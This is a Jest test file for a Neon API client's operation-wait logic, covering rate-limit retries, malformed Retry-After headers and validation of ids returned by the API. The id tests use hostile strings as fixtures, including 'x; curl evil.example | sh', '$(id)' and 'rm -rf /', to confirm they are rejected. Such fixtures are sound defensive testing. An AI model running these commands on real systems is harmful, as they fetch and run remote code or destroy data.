import { DEFAULT_POLICY } from '../src/wait/status.js';
import { afterEach, describe, expect, it } from '@jest/globals';
import { randomUUID } from 'node:crypto';
import { NeonClient } from '../src/neon/client.js';
import type { Transport } from '../src/neon/http.js';
import { ApiError } from '../src/util/errors.js';
import { type WaitResult, waitFor } from '../src/wait/wait.js';
import type { WaitSettings } from '../src/wait/wait-settings.js';
import { prng, SimulatedClock } from '../simulator/simulated-wait.js';
import {
  DEFAULT_KEY,
  operation,
  type OperationScript,
  project,
  type Scenario,
  singleProject
} from '../simulator/scenario.js';
import { type Fault, type Simulator, startSimulator } from '../simulator/server.js';

/**
 * The wait's edges, decided in-process: the real wait and client against the simulator on
 * 127.0.0.1, on a simulated clock the simulator shares (so "14 s of 429s" is exact, and quick).
 */
const PROJECT = 'edge-project-1';
let sim: Simulator | undefined;
afterEach(async () => {
  await sim?.close();
  sim = undefined;
});

async function wait(
  scenario: Scenario,
  settings: Partial<WaitSettings>,
  fault?: { fault: Fault; until?: number }
): Promise<{ result: WaitResult; sim: Simulator; clock: SimulatedClock }> {
  const epoch = Date.UTC(2026, 10, 26);
  const clock = new SimulatedClock(epoch);
  const s = await startSimulator({ scenario, clock: () => clock.elapsed, epoch });
  sim = s;
  if (fault) s.inject(fault.fault, { times: Infinity, until: fault.until });
  const random = prng(3);
  const client = new NeonClient({ baseUrl: s.url, apiKey: DEFAULT_KEY, clock, random });
  try {
    const result = await waitFor(
      {
        operationIds: [],
        givenOperations: [],
        wait: true,
        timeoutMs: 20_000,
        intervalMs: 5000,
        policy: DEFAULT_POLICY,
        ...settings
      },
      { client, clock, random, log: { info: () => undefined, warning: () => undefined } }
    );
    return { result, sim: s, clock };
  } finally {
    await client.close();
  }
}

const running = (): OperationScript =>
  operation(PROJECT, 'create_branch', [
    [-1000, 'running'],
    [5000, 'finished']
  ]);

describe('429 without Retry-After near the deadline', () => {
  it('keeps trying while time remains: 429s for 14 s of a 20 s timeout end in success', async () => {
    const op = running();
    const { result, sim } = await wait(
      singleProject(PROJECT, [op]),
      { projectId: PROJECT, operationIds: [op.id] },
      { fault: { kind: 'status', status: 429 }, until: 14_000 }
    );
    expect(result.status).toBe('finished');
    const last = sim.requests.at(-1);
    expect(last?.status).toBe(200);
    // Answered after the storm, before the deadline; the backoff alone would have given up at ~11 s.
    expect(last?.at).toBeGreaterThanOrEqual(14_000);
    expect(last?.at).toBeLessThan(20_000);
    expect(sim.requests.filter((r) => r.status === 429).length).toBeLessThanOrEqual(5);
  });

  it('with 429s throughout, tries last just before the deadline and says so', async () => {
    const op = running();
    const { result, sim } = await wait(
      singleProject(PROJECT, [op]),
      { projectId: PROJECT, operationIds: [op.id] },
      { fault: { kind: 'status', status: 429, message: 'rate limit exceeded' } }
    );
    expect(result.status).toBe('timeout');
    const last = sim.requests.at(-1)?.at ?? 0;
    expect(last).toBe(19_700);
    expect(result.failure).toBe(
      `Still waiting for operation ${op.id} (not seen yet): the 20s timeout left no time to retry ` +
        'the failed request at 19.7s. Last error: ' +
        `HTTP 429: rate limit exceeded (request_id ${sim.requests.at(-1)?.requestId}). ` +
        "Give it more time with input 'timeout'."
    );
  });

  it('says when the last check was when nothing failed', async () => {
    const op = operation(PROJECT, 'create_branch', [[-1000, 'running']]);
    const { result, sim } = await wait(singleProject(PROJECT, [op]), {
      projectId: PROJECT,
      operationIds: [op.id],
      timeoutMs: 12_000
    });
    expect(sim.requests.at(-1)?.at).toBe(11_700);
    expect(result.failure).toBe(
      `Still waiting for create_branch ${op.id} (last status running): the 12s timeout left no time for another check after the one at 11.7s. Give it more time with input 'timeout'.`
    );
  });
});

describe('Retry-After that is not a delay', () => {
  it.each(['-1', 'soon', 'Wed, 21 Oct 2015 07:28:00 GMT'])(
    'ignores Retry-After %j and keeps the backoff (a few requests in 20 s, not 41)',
    async (retryAfter) => {
      const op = running();
      const { result, sim } = await wait(
        singleProject(PROJECT, [op]),
        { projectId: PROJECT, operationIds: [op.id] },
        { fault: { kind: 'status', status: 429, retryAfter } }
      );
      expect(result.status).toBe('timeout');
      const times = sim.requests.map((r) => r.at);
      expect(times.length).toBeLessThanOrEqual(5);
      // Two requests at least 2.5 s apart: the throttled backoff, never an instant retry.
      for (let i = 1; i < times.length - 1; i++)
        expect((times[i] as number) - (times[i - 1] as number)).toBeGreaterThanOrEqual(2500);
    }
  );
});

describe('ids from the API', () => {
  it.each(['x; curl evil.example | sh', 'UPPER-case', '$(id)', 'a'.repeat(61)])(
    'a project id %j resolved from the API is an api_error and never the result',
    async (id) => {
      const scenario = singleProject(PROJECT, []);
      scenario.projects = [project(id)];
      const { result } = await wait(scenario, {});
      expect(result.status).toBe('api_error');
      expect(result.projectId).toBeUndefined();
      expect(result.failure).toMatch(/^The API answered with a project id that is not a valid id/);
    }
  );

  it('an operation listed with an id that is not a UUID is an api_error', async () => {
    const bad = operation(PROJECT, 'create_branch', [[-1000, 'running']], { id: 'rm -rf /' });
    const { result } = await wait(singleProject(PROJECT, [bad]), { projectId: PROJECT });
    expect(result.status).toBe('api_error');
    expect(result.operations).toEqual([]);
    expect(result.failure).toMatch(/operation id that is not a valid id \("rm -rf \/"\)/);
  });

  it('an operation whose project_id is not an id is an api_error; its branch_id is data', async () => {
    // The API's answer as given, through an injected transport.
    const answer = (op: Record<string, unknown>): Transport => ({
      send: async (method) =>
        method === 'GET'
          ? { status: 200, headers: {}, text: JSON.stringify({ operation: op }) }
          : { status: 500, headers: {}, text: '' },
      close: async () => undefined
    });
    const fields = { id: randomUUID(), action: 'create_branch', status: 'finished' };
    const read = (op: Record<string, unknown>) =>
      new NeonClient({ baseUrl: 'http://127.0.0.1:9', apiKey: 'k', transport: answer(op) })
        .getOperation(PROJECT, fields.id, Date.now() + 5000)
        .catch((error: unknown) => error);
    expect(await read({ ...fields, project_id: PROJECT, branch_id: 'BR 1' })).toMatchObject({
      branch_id: 'BR 1'
    });
    // What the type promises is there: times as text (empty when the answer had none), a count.
    expect(await read({ ...fields, project_id: PROJECT, updated_at: 1 })).toMatchObject({
      created_at: '',
      updated_at: '1',
      failures_count: 0
    });
    const refused = await read({ ...fields, project_id: '$(id)' });
    expect(refused).toBeInstanceOf(ApiError);
    expect((refused as ApiError).message).toMatch(
      /operation "project_id" that is not a valid id \("\$\(id\)"\)/
    );
  });

  it('a valid project id resolved from the API is used', async () => {
    const { result } = await wait(singleProject(PROJECT, []), {});
    expect(result).toMatchObject({ status: 'idle', projectId: PROJECT });
  });
});
